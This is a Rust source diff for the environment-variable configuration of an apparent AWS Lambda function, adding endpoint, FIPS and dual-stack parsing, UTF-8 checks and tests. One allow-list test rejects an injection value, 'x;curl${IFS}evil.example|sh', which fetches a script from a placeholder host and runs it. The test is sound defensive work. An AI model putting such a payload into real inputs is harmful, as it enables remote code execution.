@@ -1,6 +1,6 @@
-//! The configuration: environment variables → [`Config`]. A public interface; README.md documents it.
+//! The configuration: environment variables → [`Config`]. It is public interface, and the documentation describes it.
 
-use std::{collections::BTreeSet, fmt};
+use std::{collections::BTreeSet, ffi::OsString, fmt};
 
 use crate::{
     guard::AllowList,
@@ -19,6 +19,22 @@ pub struct Config {
     pub dry_run: bool,
     /// `AWS_REGION`: the function's own Region, which Lambda sets. KMS is called here.
     pub region: String,
+    /// Where AWS is called, if not at the Region's public endpoints.
+    pub endpoints: Endpoints,
+}
+
+/// The SDK's variables of endpoints, read here and not by the SDK: the SDK panics on an empty one, refuses every call
+/// with one that has no scheme, and so would report a fault of the deployment as one of the function.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Endpoints {
+    /// `AWS_ENDPOINT_URL_KMS`, or else `AWS_ENDPOINT_URL`.
+    pub kms: Option<String>,
+    /// `AWS_ENDPOINT_URL_SNS`, or else `AWS_ENDPOINT_URL`.
+    pub sns: Option<String>,
+    /// `AWS_USE_FIPS_ENDPOINT`.
+    pub use_fips: bool,
+    /// `AWS_USE_DUALSTACK_ENDPOINT`.
+    pub use_dual_stack: bool,
 }
 
 impl Config {
@@ -26,23 +42,34 @@ impl Config {
     ///
     /// # Errors
     /// [`InvalidConfiguration`] with every fault, not just the first.
-    pub fn from_lookup(lookup: impl Fn(&str) -> Option<String>) -> Result<Self, InvalidConfiguration> {
-        let mut faults = Vec::new();
-        let allowed = check(&mut faults, "ALLOWED_KEY_STORE_IDS", &lookup, allow_list);
-        let topic = check(&mut faults, "TOPIC_ARN", &lookup, topic_arn);
-        let dry_run = check(&mut faults, "DRY_RUN", &lookup, dry_run);
+    pub fn from_lookup(lookup: impl Fn(&str) -> Option<OsString>) -> Result<Self, InvalidConfiguration> {
+        let mut variables = Variables {
+            lookup,
+            faults: Vec::new(),
+        };
+        let allowed = variables.read("ALLOWED_KEY_STORE_IDS", LIST, allow_list);
+        let topic = variables.read("TOPIC_ARN", TOPIC, topic_arn);
+        let dry_run = variables.read("DRY_RUN", BOOLEAN, dry_run);
         // The SDK's own order.
-        let is_set = |name: &&str| lookup(name).is_some();
+        let is_set = |name: &&str| (variables.lookup)(name).is_some();
         let name = ["AWS_REGION", "AWS_DEFAULT_REGION"].into_iter().find(is_set);
-        let region = check(&mut faults, name.unwrap_or("AWS_REGION"), &lookup, region);
+        let region = variables.read(name.unwrap_or("AWS_REGION"), REGION, region);
+        let endpoints = variables.endpoints();
+        let faults = variables.faults;
         match (allowed, topic, dry_run, region) {
-            (Some(allowed), Some(topic), Some(dry_run), Some(region)) => Ok(Self {
+            (Some(allowed), Some(topic), Some(dry_run), Some(region)) if faults.is_empty() => Ok(Self {
                 allowed,
                 topic,
                 dry_run,
                 region,
+                endpoints,
             }),
-            (_, topic, _, region) => Err(InvalidConfiguration { faults, topic, region }),
+            (_, topic, _, region) => Err(InvalidConfiguration {
+                faults,
+                topic,
+                region,
+                endpoints,
+            }),
         }
     }
 }
@@ -56,6 +83,8 @@ pub struct InvalidConfiguration {
     pub topic: Option<TopicArn>,
     /// The function's Region, if that variable was good.
     pub region: Option<String>,
+    /// The endpoints, as far as their variables were good.
+    pub endpoints: Endpoints,
 }
 
 impl fmt::Display for InvalidConfiguration {
@@ -69,7 +98,7 @@ impl fmt::Display for InvalidConfiguration {
     }
 }
 
-/// One variable that does not hold what it should.
+/// One variable whose value is not what it should be.
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 #[error("{variable} {}, expected {expected}", found(.held.as_deref(), .why))]
 pub struct Fault {
@@ -93,83 +122,156 @@ fn found(held: Option<&str>, why: &str) -> String {
     }
 }
 
-/// What is wrong with a variable's value, and what is expected instead.
-type Wrong = (String, &'static str);
+const LIST: &str = "custom key store IDs separated by commas, such as cks-1234567890abcdef0, or * alone for any";
+const TOPIC: &str = "the ARN of an SNS topic, such as arn:aws:sns:us-east-1:123456789012:key-store-notices";
+const BOOLEAN: &str = "true or false";
+const REGION: &str =
+    "the Region's code, such as us-east-1 (Lambda sets it; set it yourself when you run the function elsewhere)";
+const ENDPOINT: &str = "an http:// or https:// URL, or nothing";
 
-fn check<T>(
-    faults: &mut Vec<Fault>,
-    variable: &'static str,
-    lookup: impl Fn(&str) -> Option<String>,
-    parse: impl Fn(Option<&str>) -> Result<T, Wrong>,
-) -> Option<T> {
-    let held = lookup(variable);
-    match parse(held.as_deref()) {
-        Ok(value) => Some(value),
-        Err((why, expected)) => {
-            faults.push(Fault {
-                variable,
-                held,
-                why,
-                expected,
-            });
-            None
+/// The environment, and what is wrong with it so far.
+struct Variables<L> {
+    lookup: L,
+    faults: Vec<Fault>,
+}
+
+impl<L: Fn(&str) -> Option<OsString>> Variables<L> {
+    /// Reads one variable. A value that is not text is a fault: it must not count as unset, because that would arm a
+    /// function whose `DRY_RUN` cannot be read.
+    fn read<T>(
+        &mut self,
+        variable: &'static str,
+        expected: &'static str,
+        parse: impl Fn(Option<&str>) -> Result<T, String>,
+    ) -> Option<T> {
+        let (held, parsed) = match (self.lookup)(variable).map(OsString::into_string) {
+            Some(Err(bytes)) => (
+                Some(bytes.to_string_lossy().into_owned()),
+                Err("it is not UTF-8 text".into()),
+            ),
+            Some(Ok(text)) => {
+                let parsed = parse(Some(&text));
+                (Some(text), parsed)
+            }
+            None => (None, parse(None)),
+        };
+        parsed
+            .map_err(|why| {
+                self.faults.push(Fault {
+                    variable,
+                    held,
+                    why,
+                    expected,
+                });
+            })
+            .ok()
+    }
+
+    fn endpoints(&mut self) -> Endpoints {
+        let is_ignored = self.flag("AWS_IGNORE_CONFIGURED_ENDPOINT_URLS");
+        let mut endpoint = |name| {
+            if is_ignored {
+                None
+            } else {
+                self.read(name, ENDPOINT, endpoint).flatten()
+            }
+        };
+        let any = endpoint("AWS_ENDPOINT_URL");
+        let kms = endpoint("AWS_ENDPOINT_URL_KMS").or_else(|| any.clone());
+        let sns = endpoint("AWS_ENDPOINT_URL_SNS").or(any);
+        let has_own = kms.is_some() || sns.is_some();
+        Endpoints {
+            use_fips: self.flag_without("AWS_USE_FIPS_ENDPOINT", has_own),
+            use_dual_stack: self.flag_without("AWS_USE_DUALSTACK_ENDPOINT", has_own),
+            kms,
+            sns,
         }
+    }
+
+    /// One of the SDK's switches, which it reads in any case. Empty counts as unset.
+    fn flag(&mut self, variable: &'static str) -> bool {
+        let parse = |held: Option<&str>| match held.map(str::to_ascii_lowercase).as_deref() {
+            None | Some("" | "false") => Ok(false),
+            Some("true") => Ok(true),
+            Some(_) => Err("it is neither".into()),
+        };
+        self.read(variable, BOOLEAN, parse).unwrap_or_default()
+    }
+
+    /// The same for a switch that the SDK does not take beside an endpoint: it then refuses every call.
+    fn flag_without(&mut self, variable: &'static str, has_endpoint: bool) -> bool {
+        let is_on = self.flag(variable);
+        if is_on && has_endpoint {
+            self.faults.push(Fault {
+                variable,
+                held: Some("true".into()),
+                why: "an endpoint is set too (AWS_ENDPOINT_URL), and the SDK refuses every call with both".into(),
+                expected: "no endpoint beside it, or AWS_IGNORE_CONFIGURED_ENDPOINT_URLS=true",
+            });
+            return false;
+        }
+        is_on
     }
 }
 
-fn allow_list(held: Option<&str>) -> Result<AllowList, Wrong> {
-    const EXPECTED: &str =
-        "custom key store IDs separated by commas, such as cks-1234567890abcdef0, or * alone for any";
-    let wrong = |why: String| (why, EXPECTED);
+fn endpoint(held: Option<&str>) -> Result<Option<String>, String> {
+    let Some(url) = held.filter(|url| !url.is_empty()) else {
+        return Ok(None);
+    };
+    let is_url = |uri: &http::Uri| {
+        matches!(uri.scheme_str(), Some("http" | "https")) && uri.host().is_some_and(|host| !host.is_empty())
+    };
+    match url.parse::<http::Uri>() {
+        Ok(uri) if is_url(&uri) => Ok(Some(url.to_owned())),
+        Ok(_) | Err(_) => Err("it is not such a URL".into()),
+    }
+}
+
+fn allow_list(held: Option<&str>) -> Result<AllowList, String> {
     let held = held.unwrap_or_default().trim();
     if held == "*" {
         return Ok(AllowList::Any);
     }
     if held.is_empty() {
-        return Err(wrong("names no key store".into()));
+        return Err("it names no key store".into());
     }
     let mut ids = BTreeSet::new();
     let mut faults = Vec::new();
     for entry in held.split(',').map(str::trim) {
         match entry.parse::<KeyStoreId>() {
-            Ok(_) if entry == "*" => faults.push("* stands beside other entries".into()),
             Ok(id) => {
                 ids.insert(id);
             }
+            Err(_) if entry == "*" => faults.push("* is beside other entries".into()),
             Err(why) => faults.push(format!("the entry {} {why}", text::quote(entry))),
         }
     }
     if faults.is_empty() {
         Ok(AllowList::These(ids))
     } else {
-        Err(wrong(faults.join(", ")))
+        Err(faults.join(", "))
     }
 }
 
-fn topic_arn(held: Option<&str>) -> Result<TopicArn, Wrong> {
-    held.unwrap_or_default().trim().parse().map_err(|why| {
-        (
-            format!("it {why}"),
-            "the ARN of an SNS topic, such as arn:aws:sns:us-east-1:123456789012:key-store-notices",
-        )
-    })
+fn topic_arn(held: Option<&str>) -> Result<TopicArn, String> {
+    held.unwrap_or_default()
+        .trim()
+        .parse()
+        .map_err(|why| format!("it {why}"))
 }
 
-fn dry_run(held: Option<&str>) -> Result<bool, Wrong> {
+fn dry_run(held: Option<&str>) -> Result<bool, String> {
     match held {
         None | Some("false") => Ok(false),
         Some("true") => Ok(true),
-        Some(_) => Err(("it is neither".into(), "true or false")),
+        Some(_) => Err("it is neither".into()),
     }
 }
 
-fn region(held: Option<&str>) -> Result<String, Wrong> {
+fn region(held: Option<&str>) -> Result<String, String> {
     match held {
         Some(region) if !region.is_empty() => Ok(region.to_owned()),
-        _ => Err((
-            "it is empty".into(),
-            "the Region's code, such as us-east-1 (Lambda sets it; set it yourself when you run the function elsewhere)",
-        )),
+        _ => Err("it is empty".into()),
     }
 }
 
@@ -192,7 +294,7 @@ mod tests {
                     || GOOD.iter().find(|(good, _)| *good == name).map(|(_, value)| *value),
                     |(_, value)| *value,
                 )
-                .map(str::to_owned)
+                .map(OsString::from)
         })
     }
 
@@ -208,7 +310,7 @@ mod tests {
     fn a_star_allows_any_only_when_it_stands_alone() {
         let star = |value| config(&[("ALLOWED_KEY_STORE_IDS", Some(value))]);
         assert_eq!(star("*").unwrap().allowed, AllowList::Any);
-        assert!(star("cks-1,*").unwrap_err().to_string().contains("* stands beside"));
+        assert!(star("cks-1,*").unwrap_err().to_string().contains("* is beside"));
     }
 
     #[test]
@@ -217,9 +319,9 @@ mod tests {
             .unwrap_err()
             .to_string();
         for part in [
-            "the entry \"cks 1\" holds a space",
+            "the entry \"cks 1\" is not an ID",
             "the entry \"\" is empty",
-            "* stands beside other entries",
+            "* is beside other entries",
         ] {
             assert!(message.contains(part), "{part} is not in {message}");
         }
@@ -278,10 +380,82 @@ mod tests {
 
     #[test]
     fn an_allow_list_that_names_nothing_or_holds_a_bad_entry_is_a_fault() {
-        for bad in ["", " ", ",", "cks-1,", "cks 1", &"c".repeat(65)] {
+        for bad in [
+            "",
+            " ",
+            ",",
+            "cks-1,",
+            "cks 1",
+            "payments-hsm",
+            "[\"cks-1\"]",
+            "cks-1;cks-2",
+            "\"cks-1\"",
+            "'cks-1'",
+            "x;curl${IFS}evil.example|sh",
+            &"c".repeat(65),
+        ] {
             let error = config(&[("ALLOWED_KEY_STORE_IDS", Some(bad))]).unwrap_err();
             assert_eq!(error.faults.len(), 1, "{bad:?}");
             assert!(error.topic.is_some(), "the topic is known, so it can be reported");
+        }
+    }
+
+    #[test]
+    fn endpoints_are_the_services_own_or_the_common_one() {
+        let all = [
+            ("AWS_ENDPOINT_URL", Some("http://127.0.0.1:1")),
+            ("AWS_ENDPOINT_URL_SNS", Some("https://vpce.example")),
+        ];
+        let endpoints = config(&all).unwrap().endpoints;
+        assert_eq!(endpoints.kms.as_deref(), Some("http://127.0.0.1:1"));
+        assert_eq!(endpoints.sns.as_deref(), Some("https://vpce.example"));
+        let empty = [("AWS_ENDPOINT_URL", Some("")), ("AWS_ENDPOINT_URL_KMS", Some(""))];
+        assert_eq!(config(&empty).unwrap().endpoints, Endpoints::default());
+    }
+
+    #[test]
+    fn endpoint_that_is_not_a_url_is_a_fault_by_name() {
+        for name in ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_KMS", "AWS_ENDPOINT_URL_SNS"] {
+            for bad in ["127.0.0.1:4566", "localhost", "ftp://x", "http://", " ", "http://a b"] {
+                let message = config(&[(name, Some(bad))]).unwrap_err().to_string();
+                assert!(message.contains(&format!("{name} is \"{bad}\"")), "{message}");
+            }
+            let ignored = [(name, Some("x")), ("AWS_IGNORE_CONFIGURED_ENDPOINT_URLS", Some("true"))];
+            assert_eq!(config(&ignored).unwrap().endpoints, Endpoints::default());
+        }
+    }
+
+    #[test]
+    fn endpoint_beside_fips_or_dual_stack_is_a_fault() {
+        for switch in ["AWS_USE_FIPS_ENDPOINT", "AWS_USE_DUALSTACK_ENDPOINT"] {
+            for name in ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_KMS", "AWS_ENDPOINT_URL_SNS"] {
+                let both = [(name, Some("http://127.0.0.1:1")), (switch, Some("true"))];
+                let message = config(&both).unwrap_err().to_string();
+                assert!(message.contains(&format!("{switch} is \"true\"")), "{message}");
+            }
+            let alone = config(&[(switch, Some("true"))]).unwrap().endpoints;
+            assert!(alone.use_fips != alone.use_dual_stack, "{switch}");
+        }
+    }
+
+    #[test]
+    fn value_that_is_not_text_is_a_fault_and_not_the_default() {
+        use std::os::unix::ffi::OsStringExt as _;
+        for variable in ["DRY_RUN", "TOPIC_ARN", "ALLOWED_KEY_STORE_IDS", "AWS_ENDPOINT_URL"] {
+            let invalid = Config::from_lookup(|name| {
+                let good = GOOD.iter().find(|(good, _)| *good == name);
+                let good = good.map(|(_, value)| OsString::from(value));
+                if name == variable {
+                    Some(OsString::from_vec(vec![0xff]))
+                } else {
+                    good
+                }
+            });
+            let message = invalid.unwrap_err().to_string();
+            assert!(
+                message.contains(&format!("{variable} is")) && message.contains("not UTF-8"),
+                "{message}"
+            );
         }
     }
 }
